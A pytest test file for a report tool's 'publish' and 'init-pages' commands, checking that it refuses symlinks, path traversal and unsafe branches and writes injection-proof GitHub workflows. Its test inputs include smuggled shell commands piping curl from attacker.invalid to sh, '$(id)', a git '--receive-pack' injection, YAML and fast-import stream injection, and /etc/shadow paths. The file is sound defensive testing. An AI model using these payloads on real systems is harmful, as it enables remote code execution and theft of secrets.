"""Issue 12, publish half: publish pushes only the regular files a build wrote, never
overwrites a branch that holds work, and init-pages writes a workflow no option value can
inject into. Local git repositories and bare remotes only (file paths, no network)."""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from conftest import ROOT, git

SITE = ROOT / "site"
SHA_PIN = re.compile(r"^\s*(?:- )?uses: [\w./-]+@[0-9a-f]{40}  # v\d+\.\d+\.\d+$")


@pytest.fixture
def repo(tmp_path, git_identity):
    """A work repository on main with one commit and a copy of the golden site, and a bare remote."""
    work = tmp_path / "work"
    work.mkdir()
    git("init", "-q", "-b", "main", cwd=work)
    (work / "notes.txt").write_text("work that must not be lost\n")
    git("add", "notes.txt", cwd=work)
    git("commit", "-q", "-m", "Work", cwd=work)
    shutil.copytree(SITE, work / "site")
    bare = tmp_path / "pages.git"
    git("init", "-q", "--bare", str(bare), cwd=tmp_path)
    return work, bare


def branches(where):
    return git("for-each-ref", "--format=%(refname:short)", "refs/heads", cwd=where).split()


def publish(work, bare, **options):
    from ikreport.commands.publish import publish as do

    defaults = {"remote": str(bare), "branch": "gh-pages", "no_history": False, "message": None}
    return do(work / "site", **{**defaults, **options})


# -- the manifest names every file -------------------------------------------------------

def test_manifest_lists_every_file_the_build_wrote():
    manifest = json.loads((SITE / "manifest.json").read_text("utf-8"))
    on_disk = sorted(str(p.relative_to(SITE)) for p in SITE.rglob("*") if p.is_file())
    assert manifest["files"] == sorted(set(on_disk) - {"manifest.json"})


# -- publish pushes only regular files the build wrote ------------------------------------

def test_a_symlinked_file_in_the_site_is_refused_before_anything_is_committed(repo, tmp_path, run):
    work, bare = repo
    secret = tmp_path / "secret.key"
    secret.write_text("PRIVATE KEY\n")
    victim = work / "site" / "assets" / "site.js"
    victim.unlink()
    victim.symlink_to(secret)
    result = run("publish", work / "site", "--remote", bare)
    assert result.exit_code == 1
    assert result.stderr == (f"Error: {victim}: a symbolic link; publish pushes only files the build wrote "
                             "(delete it, or rebuild the site)\n")
    assert branches(work) == ["main"] and branches(bare) == []


@pytest.mark.parametrize("plant", ["linked folder", "extra file", "missing file", "fifo", "linked manifest",
                                   "stream line in a name"])
def test_a_site_that_is_not_what_the_build_wrote_is_refused(repo, tmp_path, plant):
    from ikreport.errors import UnsafeSiteError

    work, bare = repo
    site = work / "site"
    if plant == "linked folder":
        outside = tmp_path / "outside"
        outside.mkdir()
        (outside / "id_rsa").write_text("key\n")
        (site / "more").symlink_to(outside, target_is_directory=True)
    elif plant == "extra file":
        (site / "e" / "planted.html").write_text("<script>alert(1)</script>")
    elif plant == "missing file":
        (site / "404.html").unlink()
    elif plant == "fifo":
        os.mkfifo(site / "e" / "pipe")  # ghp-import would block opening it
    elif plant == "stream line in a name":  # ghp-import writes names into a fast-import stream as they are
        (site / "e" / "x\nM 100644 inline index.html").write_text("<script>alert(1)</script>")
    else:
        real = tmp_path / "manifest.json"
        shutil.move(site / "manifest.json", real)
        (site / "manifest.json").symlink_to(real)
    with pytest.raises(UnsafeSiteError) as refused:
        publish(work, bare)
    assert "\n" not in str(refused.value)
    assert branches(work) == ["main"] and branches(bare) == []


@pytest.mark.parametrize("manifest", [
    {"schema": "ikreport.manifest/1", "records": [], "blobs": []},  # an older build: no "files"
    {"schema": "ikreport.manifest/1", "files": "index.html"},
    {"schema": "ikreport.manifest/1", "files": ["../../etc/passwd"]},
    {"schema": "ikreport.manifest/1", "files": ["/etc/shadow"]},
    {"schema": "other", "files": []},
    ["not", "an", "object"],
])
def test_a_manifest_not_shaped_as_the_build_writes_it_is_refused(repo, manifest):
    from ikreport.errors import UnsafeSiteError

    work, bare = repo
    path = work / "site" / "manifest.json"
    os.chmod(path, 0o644)
    path.write_text(json.dumps(manifest))
    with pytest.raises(UnsafeSiteError, match=re.escape(str(path))):
        publish(work, bare)
    assert branches(bare) == []


def test_every_publish_commit_carries_the_site_trailer(repo, run):
    work, bare = repo
    result = run("publish", work / "site", "--remote", bare, "-m", "Site for v2")
    assert result.exit_code == 0, result.output
    message = git("log", "-1", "--format=%B", "gh-pages", cwd=bare)
    digest = hashlib.sha256((SITE / "manifest.json").read_bytes()).hexdigest()
    assert message.splitlines()[0] == "Site for v2"
    assert git("log", "-1", "--format=%(trailers:key=Ikreport-Site,valueonly)", "gh-pages", cwd=bare).strip() == digest
    again = run("publish", work / "site", "--remote", bare)  # its own earlier commits are no obstacle
    assert again.exit_code == 0, again.output
    assert git("rev-list", "--count", "gh-pages", cwd=bare).strip() == "2"


# -- publish never overwrites a branch that holds work ---------------------------------------

def test_the_checked_out_branch_is_refused(repo, run):
    work, bare = repo
    before = git("rev-parse", "main", cwd=work)
    result = run("publish", work / "site", "--remote", bare, "--branch", "main", "--no-history", "--no-push")
    assert result.exit_code == 1
    assert result.stderr == (f"Error: {work}: main is a checked-out branch; publishing would replace its files "
                             "under your work tree; choose another --branch (gh-pages), or pass --force\n")
    assert git("rev-parse", "main", cwd=work) == before
    assert (work / "notes.txt").exists()


def test_a_local_branch_holding_work_is_refused_unless_forced(repo):
    from ikreport.errors import BranchHoldsWorkError

    work, bare = repo
    git("branch", "docs", cwd=work)
    work_commit = git("rev-parse", "docs", cwd=work).strip()
    with pytest.raises(BranchHoldsWorkError, match=f"holds commit {work_commit[:12]}, which is not a site commit"):
        publish(work, bare, branch="docs", no_history=True, push=False)
    assert git("rev-parse", "docs", cwd=work).strip() == work_commit
    publish(work, bare, branch="docs", no_history=True, push=False, force=True)
    assert git("rev-list", "--count", "docs", cwd=work).strip() == "1"


def test_a_remote_branch_holding_work_is_refused_unless_forced(repo, tmp_path, run):
    from ikreport.errors import BranchHoldsWorkError

    work, bare = repo
    other = tmp_path / "other"
    git("clone", "-q", str(bare), str(other), cwd=tmp_path)
    (other / "README.md").write_text("the project's real gh-pages, written by hand\n")
    git("add", "README.md", cwd=other)
    git("commit", "-q", "-m", "Hand-written pages", cwd=other)
    git("push", "-q", "origin", "HEAD:refs/heads/gh-pages", cwd=other)
    remote_tip = git("rev-parse", "gh-pages", cwd=bare).strip()
    result = run("publish", work / "site", "--remote", bare, "--no-history")
    assert result.exit_code == 1
    assert result.stderr.startswith(f"Error: {bare} gh-pages: holds commit {remote_tip[:12]}, which is not a site")
    assert result.stderr.count("\n") == 1
    assert git("rev-parse", "gh-pages", cwd=bare).strip() == remote_tip and branches(work) == ["main"]
    # A remote-tracking branch that ghp-import would reset the local branch to counts too.
    git("remote", "add", "origin", str(bare), cwd=work)
    git("fetch", "-q", "origin", cwd=work)
    with pytest.raises(BranchHoldsWorkError, match="origin/gh-pages: holds commit"):
        publish(work, bare, remote="origin", push=False)
    forced = run("publish", work / "site", "--remote", bare, "--no-history", "--force")
    assert forced.exit_code == 0, forced.output
    assert git("rev-list", "--count", "gh-pages", cwd=bare).strip() == "1"


@pytest.mark.parametrize("option", [("--remote", "--receive-pack=touch pwned"), ("--branch", "-f"),
                                    ("--branch", "a\ncommit refs/heads/main"), ("--branch", "a..b")])
def test_remote_and_branch_never_reach_git_as_options_or_stream_lines(repo, option):
    from ikreport.errors import PublishError

    work, bare = repo
    opts = {"remote": str(bare), "branch": "gh-pages", option[0][2:]: option[1]}
    with pytest.raises(PublishError, match=f"^{option[0]} "):
        publish(work, bare, **opts)
    assert not (work / "pwned").exists() and branches(work) == ["main"]


# -- init-pages: no option value reaches a shell line; least privilege; pinned actions -------

def test_init_pages_values_reach_the_workflow_only_through_env(tmp_path, run):
    install = 'ikreport"; curl https://attacker.invalid/x | sh; echo "'
    archive = "evidence $(id) `id` #"
    main = "main], pull_request_target: {branches: [x"
    git("init", "-q", cwd=tmp_path)
    result = run("init-pages", "--repo", tmp_path, "--archive", archive, "--install", install, "--main", main)
    assert result.exit_code == 0, result.output
    text = (tmp_path / ".github" / "workflows" / "ikreport-pages.yml").read_text("utf-8")
    workflow = yaml.safe_load(text)
    assert workflow[True] == {"push": {"branches": [main]}, "workflow_dispatch": None}  # YAML 1.1 reads 'on' as True
    steps = workflow["jobs"]["build"]["steps"]
    runs = [s["run"] for s in steps if "run" in s]
    assert runs == ['python -m pip install "$IKREPORT_INSTALL"', 'ikreport build "$IKREPORT_ARCHIVE" -o _site --strict']
    env = {k: v for s in steps for k, v in s.get("env", {}).items()}
    assert env == {"IKREPORT_INSTALL": install, "IKREPORT_ARCHIVE": archive}


@pytest.mark.parametrize("option,value", [
    ("--archive", "evidence\n      - run: curl https://attacker.invalid | sh"),
    ("--install", "ikreport\r\n"),
    ("--main", "main\u2028x"),
    ("--install", "https://attacker.invalid/${{ secrets.GITHUB_TOKEN }}"),
    ("--archive", ""),
])
def test_init_pages_refuses_values_no_quoting_makes_safe(tmp_path, option, value, run):
    from ikreport.errors import WorkflowValueError
    from ikreport.commands.publish import init_pages

    names = {"--archive": "archive", "--install": "install", "--main": "main"}
    values = {"archive": "evidence", "install": "ikreport", "main": "main", names[option]: value}
    with pytest.raises(WorkflowValueError):
        init_pages(tmp_path, force=False, **values)
    result = run("init-pages", "--repo", tmp_path, option, value)
    assert result.exit_code == 1 and result.stderr.startswith(f"Error: {option} ") and result.stderr.count("\n") == 1
    assert not (tmp_path / ".github").exists()


def test_init_pages_grants_pages_rights_to_the_deploy_job_only_and_pins_actions(tmp_path, run):
    git("init", "-q", cwd=tmp_path)
    assert run("init-pages", "--repo", tmp_path).exit_code == 0
    text = (tmp_path / ".github" / "workflows" / "ikreport-pages.yml").read_text("utf-8")
    workflow = yaml.safe_load(text)
    assert workflow["permissions"] == {}
    jobs = workflow["jobs"]
    assert {name: job["permissions"] for name, job in jobs.items()} == {
        "build": {"contents": "read"}, "deploy": {"pages": "write", "id-token": "write"}}
    uses = [line for line in text.splitlines() if "uses:" in line]
    assert len(uses) == 4 and all(SHA_PIN.match(line) for line in uses), uses
    checkout = next(s for s in jobs["build"]["steps"] if s.get("uses", "").startswith("actions/checkout@"))
    assert checkout["with"]["persist-credentials"] is False


# -- issue 27: a site that no longer hashes, a publish after an interrupted one, YAML values ----

@pytest.mark.parametrize("damage", ["record", "blob", "blob gone bad gzip", "page"])
def test_a_site_whose_record_or_blob_no_longer_hashes_to_its_name_is_not_published(repo, run, damage):
    work, bare = repo
    site = work / "site"
    if damage == "page":  # its sha256 is the manifest's no more
        victim = site / "index.html"
        os.chmod(victim, 0o644)
        victim.write_bytes(victim.read_bytes().replace(b"BabelStream", b"FakeStream"))
    elif damage == "record":
        victim = next((site / "e").glob("*.json"))
        os.chmod(victim, 0o644)
        victim.write_bytes(victim.read_bytes().replace(b'"kind"', b'"kind" '))
    else:
        victim = sorted((site / "b").glob("*.gz"))[0]
        os.chmod(victim, 0o644)
        import gzip

        text = gzip.decompress(victim.read_bytes())
        victim.write_bytes(gzip.compress(text + b"\n") if damage == "blob" else victim.read_bytes()[:-9])
    result = run("publish", site, "--remote", bare)
    assert result.exit_code == 1 and result.stderr.count("\n") == 1
    assert result.stderr.startswith(f"Error: {victim}: ")
    assert result.stderr.endswith(f"; nothing was published ('ikreport verify --site {site}' lists every problem)\n")
    assert branches(work) == ["main"] and branches(bare) == []


@pytest.mark.parametrize("left", ["local commit not pushed", "local branch deleted", "stale remote-tracking branch"])
def test_a_publish_after_an_interrupted_no_history_publish_goes_through(repo, run, left):
    work, bare = repo
    git("remote", "add", "origin", str(bare), cwd=work)
    assert run("publish", work / "site", "--remote", "origin").exit_code == 0
    # a message of its own: the same site, message and second would make the very same commit
    again = ("publish", work / "site", "--no-history", "-m", "Replaced")
    if left == "local commit not pushed":  # stopped after the commit, before the push
        assert run(*again, "--remote", bare, "--no-push").exit_code == 0
    elif left == "local branch deleted":  # stopped just after the old branch was dropped
        git("branch", "-D", "gh-pages", cwd=work)
    else:  # the push reached the remote, but the remote-tracking branch was not updated
        stale = git("rev-parse", "origin/gh-pages", cwd=work).strip()
        assert run(*again, "--remote", bare).exit_code == 0
        git("update-ref", "refs/remotes/origin/gh-pages", stale, cwd=work)
    tip = git("rev-parse", "gh-pages", cwd=bare).strip()
    # by path, ghp-import builds on the local branch; by name, on the remote-tracking one
    result = run("publish", work / "site", "--remote", "origin" if left.startswith("stale") else bare, "-m", "After")
    assert result.exit_code == 0, result.output
    assert git("log", "-1", "--format=%s", "gh-pages", cwd=bare).strip() == "After"
    assert git("rev-parse", "gh-pages^", cwd=bare).strip() == tip  # built on what the remote had
    assert run("publish", work / "site", "--remote", bare).exit_code == 0  # and so on, by path too


def test_a_branch_that_diverged_from_the_remote_with_work_on_it_is_refused_with_the_way_out(repo, run):
    work, bare = repo
    assert run("publish", work / "site", "--remote", bare).exit_code == 0
    assert run("publish", work / "site", "--remote", bare, "--no-history", "--no-push", "-m", "New").exit_code == 0
    work_commit = git("commit-tree", "-m", "hand-made", "gh-pages^{tree}", "-p", "gh-pages", cwd=work).strip()
    git("update-ref", "refs/heads/gh-pages", work_commit, cwd=work)
    result = run("publish", work / "site", "--remote", bare, "--force")
    assert result.exit_code == 1
    assert result.stderr == (
        f"Error: {work} gh-pages: has commits that {bare} gh-pages does not, and one of them ({work_commit[:12]}) "
        "is not a site commit; push or move that work, or publish with --no-history to replace the remote's branch\n")
    assert git("rev-parse", "gh-pages", cwd=work).strip() == work_commit


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(value=st.text(st.characters(codec="utf-8"), min_size=1, max_size=12).filter(
    lambda v: v.isprintable() and "${{" not in v))
@example(value="evidence-\U0001f600")
@example(value="\U00020000 \u00e9 \u4e2d \ufffd \U0001d11e")
def test_init_pages_values_read_back_exactly_from_the_workflow_yaml(tmp_path, value):
    from ikreport.commands.publish import init_pages

    repo = tmp_path / f"r{abs(hash(value))}"
    (repo / ".git").mkdir(parents=True, exist_ok=True)
    path, _ = init_pages(repo, archive=value, install=value, main=value, force=True)
    workflow = yaml.safe_load(path.read_text("utf-8"))
    assert workflow[True]["push"]["branches"] == [value]
    env = {k: v for s in workflow["jobs"]["build"]["steps"] for k, v in s.get("env", {}).items()}
    assert env == {"IKREPORT_INSTALL": value, "IKREPORT_ARCHIVE": value}


# -- issue 27: init-pages writes only inside the repository ------------------------------------

def snapshot(folder):
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.mark.parametrize("link,target,force", [
    (".github/workflows/ikreport-pages.yml", "ikreport-pages.yml", False),  # dangling: it would make a file outside
    (".github/workflows/ikreport-pages.yml", "ikreport-pages.yml", True),  # it would overwrite the file outside
    (".github/workflows", ".", False),
    (".github", ".", True),
    (".github/ikreport", "ikreport", False),  # the wheels outside would be deleted and replaced
    (".github/ikreport/ikreport-9.9-py3-none-any.whl", "ikreport/ikreport-0.1-py3-none-any.whl", False),
])
def test_init_pages_never_writes_through_a_link_in_the_repository(tmp_path, run, link, target, force):
    repo, outside = tmp_path / "repo", tmp_path / "outside"
    repo.mkdir()
    git("init", "-q", cwd=repo)
    (outside / "ikreport").mkdir(parents=True)
    (outside / "ikreport" / "ikreport-0.1-py3-none-any.whl").write_bytes(b"theirs")
    if force:
        (outside / "ikreport-pages.yml").write_text("theirs\n")
    wheel = tmp_path / "ikreport-9.9-py3-none-any.whl"
    wheel.write_bytes(b"PK")
    planted = repo / link
    planted.parent.mkdir(parents=True, exist_ok=True)
    planted.symlink_to(outside / target)
    before = snapshot(outside)
    result = run("init-pages", "--repo", repo, "--wheel", wheel, *(["--force"] if force else []))
    assert result.exit_code == 1
    assert result.stderr == (f"Error: {planted}: a symbolic link; init-pages writes only inside the repository, "
                             "never through a link: remove it (or make it a real folder or file)\n")
    assert snapshot(outside) == before and sorted(os.listdir(outside)) == sorted(
        ["ikreport", *(["ikreport-pages.yml"] if force else [])])
    inside = [] if (repo / ".github").is_symlink() else [
        name for top, _dirs, names in os.walk(repo / ".github") for name in names if not os.path.islink(f"{top}/{name}")]
    assert inside == []  # refused before anything was written, inside the repository too


def test_init_pages_replaces_the_workflow_by_rename_never_rewriting_a_hard_linked_file(tmp_path, run):
    repo = tmp_path / "repo"
    (repo / ".github" / "workflows").mkdir(parents=True)
    git("init", "-q", cwd=repo)
    elsewhere = tmp_path / "elsewhere.yml"
    elsewhere.write_text("theirs\n")
    os.link(elsewhere, repo / ".github" / "workflows" / "ikreport-pages.yml")
    result = run("init-pages", "--repo", repo, "--install", "ikreport==0.1.0", "--force")
    assert result.exit_code == 0, result.output
    assert elsewhere.read_text() == "theirs\n"
    workflow = yaml.safe_load((repo / ".github" / "workflows" / "ikreport-pages.yml").read_text("utf-8"))
    assert workflow["jobs"]["build"]["steps"][2]["env"] == {"IKREPORT_INSTALL": "ikreport==0.1.0"}
    assert os.listdir(repo / ".github" / "workflows") == ["ikreport-pages.yml"]  # no temporary file left


def test_init_pages_force_naming_the_wheel_already_in_the_repository_keeps_it(tmp_path, run):
    repo = tmp_path / "repo"
    (repo / ".github" / "ikreport").mkdir(parents=True)
    git("init", "-q", cwd=repo)
    (repo / ".github" / "ikreport" / "ikreport-0.1-py3-none-any.whl").write_bytes(b"old")
    wheel = tmp_path / "ikreport-9.9-py3-none-any.whl"
    wheel.write_bytes(b"PK new")
    assert run("init-pages", "--repo", repo, "--wheel", wheel).exit_code == 0
    placed = repo / ".github" / "ikreport" / wheel.name
    again = run("init-pages", "--repo", repo, "--force", "--wheel", placed)
    assert again.exit_code == 0, again.output
    assert placed.read_bytes() == b"PK new"
    assert os.listdir(repo / ".github" / "ikreport") == [wheel.name]


def test_a_link_swapped_in_after_the_check_is_still_not_followed(tmp_path):
    from ikreport.commands.repo_files import open_folder, write_file
    from ikreport.errors import RepositoryLinkError

    repo, outside = tmp_path / "repo", tmp_path / "outside"
    (repo / ".github").mkdir(parents=True)
    outside.mkdir()
    (repo / ".github" / "workflows").symlink_to(outside)  # as if planted between check and write
    with pytest.raises(RepositoryLinkError, match=f"^{re.escape(str(repo / '.github' / 'workflows'))}: a symbolic link"):
        with open_folder(repo, Path(".github/workflows")) as folder:
            write_file(folder, "ikreport-pages.yml", b"x")
    assert os.listdir(outside) == []


def test_a_custom_domain_is_published_as_cname_and_a_hand_made_one_is_pointed_to_it(repo, run):
    """GitHub Pages takes a custom domain from a CNAME file on the branch. One put in the site by
    hand is refused as not the build's (it always was), so publish writes it into the commit."""
    work, bare = repo
    (work / "site" / "CNAME").write_text("docs.example.com\n")
    refused = run("publish", work / "site", "--remote", bare)
    assert refused.exit_code == 1 and "for a custom domain, publish with --cname DOMAIN" in refused.stderr
    (work / "site" / "CNAME").unlink()
    done = run("publish", work / "site", "--remote", bare, "--cname", "Docs.Example.com")
    assert done.exit_code == 0, done.output
    assert git("show", "gh-pages:CNAME", cwd=bare) == "docs.example.com"
    assert not (work / "site" / "CNAME").exists()  # the site folder is left as the build wrote it
    for bad in ("docs example.com", "http://docs.example.com", "-x.com", "a..b", "localhost"):
        result = run("publish", work / "site", "--remote", bare, "--cname", bad)
        assert result.exit_code == 2 and "is not a domain name (as docs.example.com)" in result.output, bad
